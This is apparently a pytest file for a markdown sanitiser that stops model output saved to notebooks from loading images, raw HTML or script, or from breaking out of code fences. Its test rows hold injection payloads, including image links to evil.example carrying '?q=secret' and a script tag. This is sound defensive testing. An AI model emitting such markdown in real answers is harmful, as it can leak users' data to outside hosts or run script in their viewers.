"""The saved notebook loads nothing and runs nothing, whatever the model wrote."""

from __future__ import annotations

import hypothesis.strategies as st
import mistune
import pytest
from hypothesis import given, settings
from markdown_it import MarkdownIt

from cellwright.sessions.export.safe_markdown import code_span, fenced, neutralised, visible_controls
from row_tables import for_each_row

ACTIVE = {"html_block", "html_inline", "image"}


def active_tokens(markdown: str) -> list[str]:
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    found = []
    for token in parser.parse(markdown):
        found += [child.type for child in (token, *(token.children or ())) if child.type in ACTIVE]
    return found


def active_in_mistune(markdown: str) -> list[str]:
    tokens, _ = mistune.create_markdown(escape=False, renderer=None, plugins=["table", "strikethrough"]).parse(markdown)
    found = []
    while tokens:
        token = tokens.pop()
        tokens += token.get("children", [])
        if token["type"] in ("block_html", "inline_html", "image"):
            found.append(token["type"])
    return found


@for_each_row(
    "markdown",
    [
        "See ![chart](https://evil.example/?q=secret)",
        "!![twice](https://evil.example/a.png)",
        "![alt][ref]\n\n[ref]: https://evil.example/a.png",
        "<img src=https://evil.example/a.png>",
        "<script>alert(1)</script>",
        "text\n<div onclick=x>\n",
        "</details> out of our fold",
        "a ` b\nc `<img src=x>` d",
        "| a |\n| --- |\n| `a | b` `<img src=x>` |",
        "\\`<img src=x>\\`",
        "- item\n  ```\ncode\n![x](https://evil.example)\n",
        "```py\nopen = 1\n",
        "text\n      ```\n ![x](https://evil.example)\n      ```",
        "> ```\n> quoted\n![x](https://evil.example)",
        "\\![x](u) \\\\![y](u) \\<img src=x> \\\\<img src=x>",
        "~~~\n```\n~~~\n<img src=x>",
        "`````\n```\n<b>\n`````\n<b>",
        "\t```\n\t<b>\n\t```\n<b>",
    ],
)
def test_nothing_active_is_left(markdown: str):
    assert active_tokens(neutralised(markdown)) == []
    assert active_in_mistune(neutralised(markdown)) == []


@settings(deadline=None, max_examples=400)
@given(
    st.lists(
        st.sampled_from(
            [
                "`",
                "```",
                "~~~",
                "<b>",
                "![",
                "a",
                "](u)",
                "\n",
                "\n\n",
                " ",
                "    ",
                "- ",
                "> ",
                "|",
                "\\",
                "| - |\n",
                "1. ",
                "[r]: u",
                "<!--",
                "$",
                "\t",
                "#",
                "=",
                "\r",
            ]
        ),
        max_size=30,
    )
)
def test_no_mixture_leaves_anything_active(parts: list[str]):
    assert active_tokens(neutralised("".join(parts))) == []


def test_ordinary_answers_stay_as_they_are():
    markdown = (
        "# Result\n\nUse `<div>`, **not** a < b | c.\n\n- one\n- two\n\n"
        "```python\nif a < b:\n    print('<b>', '![x](y)')\n```\n\n| a | b |\n| --- | --- |\n| 1 | `<c>` |\n"
    )
    assert neutralised(markdown) == markdown


def test_tabs_in_code_stay_tabs():
    markdown = "```make\nall:\n\techo <b>\n```\n"
    assert neutralised(markdown) == markdown


def test_images_become_links_and_html_becomes_text():
    rendered = MarkdownIt().render(neutralised("![plot](a.png) <b>bold</b> <https://example.org>"))
    assert '<a href="a.png">plot</a>' in rendered
    assert "&lt;b&gt;bold" in rendered
    assert "https://example.org" in rendered


def test_code_in_lists_stays_code():
    html = MarkdownIt().render(neutralised("1. first\n   ```sh\n   a < b\n   ```\n2. second\n- ```\n  x\n  ```\n"))
    assert '<code class="language-sh">a &lt; b\n</code>' in html
    assert html.count("<pre>") == 2


@pytest.mark.parametrize("text", ["plain", "```", "a\n```\nb", "`````python\n````", ""])
def test_nothing_ends_our_own_code_block(text: str):
    tokens = MarkdownIt().parse(fenced(text, "diff"))
    assert [token.type for token in tokens] == ["fence"]
    assert tokens[0].content.rstrip("\n") == text.rstrip("\n")


@for_each_row("text", ["plain", "`", "``a`", "a ``` b", "x\ny", "`x", ""])
def test_nothing_ends_our_own_inline_code(text: str):
    (inline,) = [token for token in MarkdownIt().parse(f"- {code_span(text)} after") if token.type == "inline"]
    assert [child.type for child in inline.children or ()] == ["code_inline", "text"]


def test_control_and_direction_characters_are_shown():
    assert visible_controls("a\x1b[31mb\u202ec\n\td") == "a␛[31mb⟨U+202E⟩c\n\td"
